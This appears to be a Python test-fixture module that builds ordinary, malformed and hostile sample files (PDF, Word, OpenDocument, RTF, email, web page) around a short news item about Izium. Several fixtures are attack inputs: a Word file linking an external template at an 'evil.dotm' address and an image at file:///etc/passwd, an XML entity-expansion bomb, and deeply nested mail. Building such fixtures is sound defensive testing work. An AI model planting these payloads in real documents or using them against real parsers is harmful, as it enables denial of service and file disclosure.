"""Makers of files as they come from outside: ordinary ones, broken ones, and ones that are made to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from email.message import EmailMessage

STORY = (
    "Two men were detained in Izium on Sunday, 1 May 2022, according to the mayor.",
    (
        "More than 100 people left the town by bus the next day, and about 40 of them reached Kharkiv in the evening "
        "after soldiers had held the column for nine hours at a checkpoint."
    ),
    "Nobody knows where the two men are being held.",
)
TITLE = "Detentions and an evacuation in Izium"


def pdf(
    pages: Sequence[Sequence[str]] = (STORY,), *, title: str = "", author: str = "", password: str = ""
) -> bytes:
    """A PDF with a paragraph for each text, set in lines of ordinary width."""
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.lib.utils import simpleSplit
    from reportlab.pdfgen.canvas import Canvas

    style = getSampleStyleSheet()["BodyText"]
    file = io.BytesIO()
    sheet = Canvas(file, pagesize=(595, 842), invariant=1, encrypt=password or None)
    sheet.setTitle(title)
    sheet.setAuthor(author)
    for page in pages:
        down = 770.0
        sheet.setFont(style.fontName, 10)
        for paragraph in page:
            for line in simpleSplit(paragraph, style.fontName, 10, 440):
                sheet.drawString(72, down, line)
                down -= 12
            down -= 8
        sheet.showPage()
    sheet.save()
    return file.getvalue()


def scanned_pdf(pages: int = 2, words: str = "") -> bytes:
    """A PDF whose pages are pictures; `words` is one more page with text."""
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen.canvas import Canvas

    file = io.BytesIO()
    sheet = Canvas(file, pagesize=(300, 400), invariant=1)
    for _ in range(pages):
        sheet.drawImage(ImageReader(io.BytesIO(png())), 20, 20, 260, 360)
        sheet.showPage()
    if words:
        sheet.drawString(20, 350, words)
        sheet.showPage()
    sheet.save()
    return file.getvalue()


def png(width: int = 40, height: int = 30) -> bytes:
    """A grey picture."""
    rows = b"".join(
        b"\0" + bytes((row * 7 + column * 3) % 256 for column in range(width)) for row in range(height)
    )
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def docx(
    paragraphs: Sequence[str] = STORY, *, table: Sequence[Sequence[str]] = (), **properties: str
) -> bytes:
    """A Word document; properties are those of its core: title, author, language."""
    import docx as library

    document = library.Document()
    document.core_properties.author = ""
    for text in paragraphs:
        document.add_paragraph(text)
    if table:
        made = document.add_table(len(table), len(table[0]))
        for row, cells in enumerate(table):
            for column, text in enumerate(cells):
                made.cell(row, column).text = text
    for name, value in properties.items():
        setattr(document.core_properties, name, value)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def repacked(archive: bytes, changes: Mapping[str, bytes | None] | None = None) -> bytes:
    """The same archive with members changed, added, or (None) left out."""
    changes = changes or {}
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, content in changes.items():
            if content is not None:
                new.writestr(name, content)
    return file.getvalue()


def member(archive: bytes, name: str) -> bytes:
    """One member of an archive."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return opened.read(name)


def docm() -> bytes:
    """A Word document with macros."""
    plain = docx()
    types = member(plain, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return repacked(
        plain, {"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600}
    )


def docx_with_outside_links() -> bytes:
    """A Word document that wants a template and a picture fetched from elsewhere."""
    plain = docx()
    relations = member(plain, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/>'
        b'<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    )
    return repacked(plain, {"word/_rels/document.xml.rels": relations})


ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)


def odt(
    paragraphs: Sequence[str] = STORY,
    *,
    prologue: str = "",
    body: str = "",
    extra: Mapping[str, bytes] | None = None,
) -> bytes:
    """An OpenDocument text; `body` is more XML for its end."""
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    )
    told = "".join(f"<text:p>{text}</text:p>" for text in paragraphs)
    content = (
        f"{prologue}<office:document-content {spaces}><office:body><office:text>{told}{body}</office:text>"
        "</office:body></office:document-content>"
    )
    meta = (
        f"<office:document-meta {spaces}><office:meta><dc:title>{TITLE}</dc:title><dc:language>en-GB</dc:language>"
        "<meta:initial-creator>Olena Koval</meta:initial-creator></office:meta></office:document-meta>"
    )
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr("meta.xml", meta)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return file.getvalue()


def rtf(paragraphs: Sequence[str] = STORY, head: str = "") -> bytes:
    """An RTF document; letters beyond ASCII as Word writes them."""

    def told(text: str) -> str:
        safe = text.replace("\\", "\\\\").replace("{", "\\{").replace("}", "\\}")
        return "".join(c if ord(c) < 128 else f"\\u{ord(c)}?" for c in safe)

    body = "".join(f"{told(text)}\\par\n" for text in paragraphs)
    return f"{{\\rtf1\\ansi\\ansicpg1251\\deff0{{\\fonttbl{{\\f0 Arial;}}}}{head}\n{body}}}".encode("ascii")


def mail(
    text: str = "\n\n".join(STORY),
    html: str = "",
    files: Sequence[tuple[str, bytes]] = (),
    subject: str = TITLE,
    sender: str = "Olena Koval <olena@example.org>",
) -> bytes:
    """A mail of 2 May 2022."""
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, "desk@example.org", subject
    message["Date"] = "Mon, 02 May 2022 09:30:00 +0300"
    if text:
        message.set_content(text)
    if html:
        (message.add_alternative if text else message.set_content)(html, subtype="html")
    for name, content in files:
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def nested_mail(depth: int) -> bytes:
    """A mail in a mail in a mail."""
    content = mail()
    for _ in range(depth):
        content = (
            b"From: a@example.org\nSubject: forwarded\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
            + content
        )
    return content


def nested_parts(depth: int) -> bytes:
    """A mail whose parts hold parts."""
    head = b"From: a@example.org\nTo: b@example.org\nSubject: parts\nMIME-Version: 1.0\n"
    opened = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth)
    )
    return head + opened + b"Content-Type: text/plain\n\nThe innermost words.\n"


def page(
    paragraphs: Sequence[str] = STORY,
    head: str = "",
    title: str = TITLE,
    charset: str = "utf-8",
    lang: str = "en",
) -> str:
    """A web page with menus around an article."""
    menu = "".join(
        f'<li><a href="/{word}">{word}</a></li>' for word in ("Home", "World", "Sport", "Subscribe now")
    )
    told = "".join(f"<p>{text}</p>" for text in paragraphs)
    return (
        f'<!DOCTYPE html>\n<html lang="{lang}"><head><meta charset="{charset}">'
        f"<title>{title} | The Courier</title>{head}"
        f"<script>var tracked = 'do not read this';</script></head><body><nav><ul>{menu}</ul></nav>"
        f"<article><h1>{title}</h1>{told}</article><footer><p>Copyright The Courier. All rights reserved.</p></footer>"
        "</body></html>"
    )
